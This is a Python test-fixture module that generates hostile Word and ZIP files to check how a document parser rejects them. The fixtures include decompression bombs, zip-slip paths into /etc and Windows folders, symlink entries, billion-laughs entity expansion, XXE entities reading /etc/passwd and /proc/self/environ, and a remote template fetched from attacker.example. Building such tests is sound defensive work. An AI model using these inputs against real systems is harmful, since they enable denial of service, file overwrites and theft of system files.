"""Hostile archives: bombs, paths that lead out, and what a DOCX can carry along."""

from __future__ import annotations

import io
import stat
import struct
import zipfile
from collections.abc import Mapping
from functools import cache

from tests import samples
from tests.hostile.kinds import READ, kind

DOCUMENT = "word/document.xml"
WORDS = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
TIME = (2024, 3, 4, 0, 0, 0)


@cache
def _parts() -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(samples.contract_docx())) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: Mapping[str, bytes], *, odd: zipfile.ZipInfo | None = None) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, TIME), content, zipfile.ZIP_DEFLATED)
        if odd is not None:
            archive.writestr(odd, b"/etc/passwd")
    return stream.getvalue()


def _docx(number: int, changed: Mapping[str, bytes] | None = None) -> bytes:
    return _zip({**_parts(), "customXml/number.txt": str(number).encode(), **(changed or {})})


def _with_words(number: int, body: str) -> bytes:
    return _docx(number, {DOCUMENT: (WORDS % body).encode()})


def contract() -> bytes:
    """The sample contract, the same bytes at any time of the day."""
    return _zip(_parts())


def docx_bomb(number: int) -> bytes:
    """A part that unpacks to hundreds of times its size."""
    return _docx(number, {"word/media/image1.png": bytes((20 + 20 * number) << 20)})


def docx_of_many_parts(number: int) -> bytes:
    return _docx(number, {f"word/media/{at}.txt": b"a" for at in range(1_000 + 500 * number)})


def docx_that_lies(number: int) -> bytes:
    """The table says that a part is small; it is not."""
    content = bytearray(_docx(number, {DOCUMENT: (WORDS % ("<w:p/>" * (1_000_000 + number))).encode()}))
    at = content.rindex(b"word/document.xml") - 46
    content[at + 24 : at + 28] = struct.pack("<I", 1_000 + number)
    return bytes(content)


def zip_slip(number: int) -> bytes:
    """Names that lead out of the folder into which somebody unpacks."""
    name = ("../../../../etc/cron.d/x", "/etc/passwd", "..\\..\\windows\\x", "word/../../x", "C:\\x")[number % 5]
    return _docx(number, {f"{name}{number}": b"x"})


def zip_link(number: int) -> bytes:
    """A symbolic link among the parts."""
    link = zipfile.ZipInfo(f"word/media/link{number}", TIME)
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    link.create_system = 3
    return _zip({**_parts()}, odd=link)


def zip_in_zip(number: int) -> bytes:
    """Archives in archives in archives."""
    content = b"at last"
    for at in range(5 * (number + 1)):
        content = _zip({f"{at}.zip": content, "again.zip": content})
        content = content if len(content) < 1 << 20 else content[: 1 << 20]
    return content


def zip_overlap(number: int) -> bytes:
    """Many entries of the table that all point at the same packed bytes."""
    packed = _zip({DOCUMENT: bytes(1 << 20)})
    start = packed.index(b"PK\1\2")
    entry = packed[start : packed.index(b"PK\5\6")]
    count = 100 * (number + 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entry) * count, start, 0)
    return packed[:start] + entry * count + end


def docx_template(number: int) -> bytes:
    """A template, or a picture, that is to be fetched from elsewhere."""
    target = ("http://attacker.example/x.dotm", "file:///etc/passwd", "\\\\attacker.example\\share\\x.dotm")[number % 3]
    kind_of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    rels = (
        f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{kind_of}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return _docx(number, {"word/_rels/settings.xml.rels": rels.encode()})


def docx_macro(number: int) -> bytes:
    """Macros and embedded objects."""
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600 + number)
    return _docx(number, {"word/vbaProject.bin": ole, "word/embeddings/oleObject1.bin": ole})


def docx_deep(number: int) -> bytes:
    """Tables in tables in tables."""
    depth = 20 * 2**number
    body = "<w:tbl><w:tr><w:tc>" * depth + "<w:p><w:r><w:t>deep</w:t></w:r></w:p>" + "</w:tc></w:tr></w:tbl>" * depth
    return _with_words(number, body)


def docx_wide(number: int) -> bytes:
    """A cell that spans millions of columns, or rows without end."""
    span = 10 ** (3 + number % 7)
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr><w:p><w:r><w:t>wide {number}</w:t></w:r></w:p></w:tc>'
    return _with_words(number, f"<w:tbl><w:tblGrid/><w:tr>{cell}</w:tr></w:tbl>")


def docx_entities(number: int) -> bytes:
    lines = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10 if at else "boom"}">' for at in range(6 + number))
    body = f"<w:p><w:r><w:t>&e{5 + number};</w:t></w:r></w:p>"
    return _docx(number, {DOCUMENT: f"<!DOCTYPE x [{lines}]>{WORDS % body}".encode()})


def docx_outside_entity(number: int) -> bytes:
    """The words are to come from a file of the box."""
    place = ("file:///etc/passwd", "http://attacker.example/x", "/proc/self/environ")[number % 3]
    body = f"<w:p><w:r><w:t>before {number} &e; after</w:t></w:r></w:p>"
    return _docx(number, {DOCUMENT: f'<!DOCTYPE x [<!ENTITY e SYSTEM "{place}">]>{WORDS % body}'.encode()})


def docx_broken(number: int) -> bytes:
    """Parts that are missing, empty or no XML."""
    parts = _parts()
    name = sorted(parts)[number % len(parts)]
    return _docx(number, {name: (b"", b"<", b"\xff\xfe\0")[number % 3]})


def old_office(number: int) -> bytes:
    """A file of an Office of the last century, full of nothing."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"WordDocument" * (number + 1) + bytes(2_000)


KINDS = (
    kind(docx_bomb, ".docx", "file_too_large", variants=6),
    kind(docx_of_many_parts, ".docx", "file_too_large", variants=6),
    kind(docx_that_lies, ".docx", "broken_file", "file_too_large", variants=4),
    kind(zip_slip, ".docx", "broken_file", READ),
    kind(zip_link, ".docx", "broken_file", READ),
    kind(zip_in_zip, ".zip", "unknown_format"),
    kind(zip_overlap, ".docx", "broken_file", "file_too_large", "unknown_format"),
    kind(docx_template, ".docx", READ),
    kind(docx_macro, ".docx", READ),
    kind(docx_deep, ".docx", READ, "broken_file"),
    kind(docx_wide, ".docx", READ, "broken_file", "file_too_large"),
    kind(docx_entities, ".docx", READ, "broken_file", "file_too_large"),
    kind(docx_outside_entity, ".docx", READ, "broken_file"),
    kind(docx_broken, ".docx", READ, "broken_file", "unknown_format"),
    kind(old_office, ".doc", "unknown_format"),
)
